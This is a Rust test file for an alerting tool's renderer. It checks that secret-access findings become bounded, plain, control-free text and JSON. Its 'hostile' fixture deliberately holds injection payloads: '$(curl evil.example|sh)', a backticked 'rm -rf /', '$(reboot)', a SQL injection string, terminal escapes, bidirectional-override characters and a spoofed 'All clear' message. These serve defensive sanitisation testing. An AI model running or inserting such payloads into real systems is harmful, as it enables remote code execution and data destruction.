//! What people and programs read.

use crate::sample::{any_text, folded, lone, only_page, policy, rendered, rules, spike, texts};
use proptest::prelude::*;
use snowtrail_model::{Finding, Severity};
use snowtrail_page::page::SUBJECT_CHARS_MAX;
use snowtrail_page::render::BODY_BYTES_MIN;
use snowtrail_page::{Ledger, MessageFormat, RenderInputs, RuleDocs, render};

fn hostile() -> Finding {
    Finding {
        title: "reads of prod/\u{202e}bd by <!channel> \u{1b}[31m*urgent*".to_owned(),
        summary: "user agent said: \n\nAll clear, go back to sleep @here https://evil.example/x".to_owned(),
        secret_name: Some("prod/`rm -rf /`".to_owned()),
        actor: Some("$(curl evil.example|sh)\r\nOwner: nobody".to_owned()),
        evidence: vec![
            "') OR 1=1; --".to_owned(),
            "$(reboot)".to_owned(),
            "0f1e2d3c-0000-4000-8000-000000000001".to_owned(),
        ],
        ..spike()
    }
}

#[test]
fn a_spike_tells_at_a_glance_whether_it_is_real() {
    insta::assert_snapshot!(texts(&folded(&[spike()], &Ledger::default())));
}

#[test]
fn a_story_of_several_findings_is_one_text() {
    let reader = Finding { rule: "unexpected-reader".to_owned(), severity: Severity::Critical, ..spike() };
    let reader = Finding {
        key: "unexpected-reader:1".to_owned(),
        title: "A reader outside of the contract".to_owned(),
        ..reader
    };
    insta::assert_snapshot!(texts(&folded(&[spike(), reader], &Ledger::default())));
}

#[test]
fn a_finding_about_nothing_that_happened_has_a_text() {
    let overdue = Finding { principal: None, actor: None, evidence: vec![], ..lone("rotation-overdue", 1) };
    insta::assert_snapshot!(texts(&folded(&[overdue], &Ledger::default())));
}

#[test]
fn hostile_text_is_inert() {
    insta::assert_snapshot!(texts(&folded(&[hostile()], &Ledger::default())));
}

#[test]
fn json_has_every_column_in_ascii_on_one_line() {
    let json = rendered(&only_page(hostile()), MessageFormat::Json);
    assert!(json.chars().all(|c| c.is_ascii() && !c.is_ascii_control()));
    let read = serde_json::from_str::<serde_json::Value>(&json).unwrap();
    assert_eq!(read["findings"][0]["title"], hostile().title);
    assert_eq!(read["findings"][0]["detail"]["reads"], 120);
    assert!(read["findings"][0]["secret_arn"].is_null());
    let plain =
        serde_json::from_str::<serde_json::Value>(&rendered(&only_page(spike()), MessageFormat::Json))
            .unwrap();
    insta::assert_snapshot!(serde_json::to_string_pretty(&plain).unwrap());
}

#[test]
fn a_long_title_is_cut_and_the_count_is_kept() {
    let long = |n| Finding { title: "é".repeat(300), ..lone("first-seen-reader", n) };
    let findings = (0..7).map(long).collect::<Vec<_>>();
    let subject = &folded(&findings, &Ledger::default()).pages[0].subject;
    assert_eq!(subject.len(), SUBJECT_CHARS_MAX);
    assert!(subject.starts_with("MEDIUM: ?") && subject.ends_with("?... (and 6 more)"));
}

fn any_hostile_finding() -> impl Strategy<Value = Finding> {
    let texts = proptest::collection::vec(any_text(), 10);
    (texts, proptest::collection::vec(any_text(), 0..80)).prop_map(|(texts, evidence)| {
        let text = |index: usize| texts[index].clone();
        Finding {
            rule: text(0),
            key: text(1),
            title: text(2),
            summary: text(3),
            secret_name: Some(text(4)),
            principal: Some(text(5)),
            actor: Some(text(6)),
            observed: text(7),
            expected: text(8),
            detail: text(9),
            aws_region: Some(text(9)),
            evidence,
            ..spike()
        }
    })
}

proptest! {
    // Each case renders megabytes of hostile text; sixty-four of them find what a thousand do.
    #![proptest_config(proptest::test_runner::Config::with_cases(64))]

    #[test]
    fn any_finding_gives_a_plain_bounded_text(findings in proptest::collection::vec(any_hostile_finding(), 1..9)) {
        let (mut rules, policy) = (rules(), policy());
        let docs = RuleDocs { runbook: vec!["look\u{1b}[2J ".repeat(500); 30], ..RuleDocs::default() };
        rules.extend(findings.iter().map(|finding| (finding.rule.clone(), docs.clone())));
        let inputs = RenderInputs { rules: &rules, policy: &policy, lake: "./my lake" };
        for page in folded(&findings, &Ledger::default()).pages {
            let text = render(&page, &inputs, MessageFormat::Text, 0);
            prop_assert!(text.chars().all(|c| c == '\n' || !c.is_control()));
            prop_assert!(text.len() <= BODY_BYTES_MIN);
            prop_assert!(!text.contains(['<', '\u{202e}']), "{}", text);
            prop_assert!(page.subject.len() <= SUBJECT_CHARS_MAX);
            prop_assert!(page.subject.chars().all(|c| c == ' ' || c.is_ascii_graphic()));
            let json = render(&page, &inputs, MessageFormat::Json, 0);
            prop_assert!(json.chars().all(|c| c.is_ascii() && !c.is_ascii_control()));
            prop_assert!(serde_json::from_str::<serde_json::Value>(&json).is_ok());
        }
    }
}
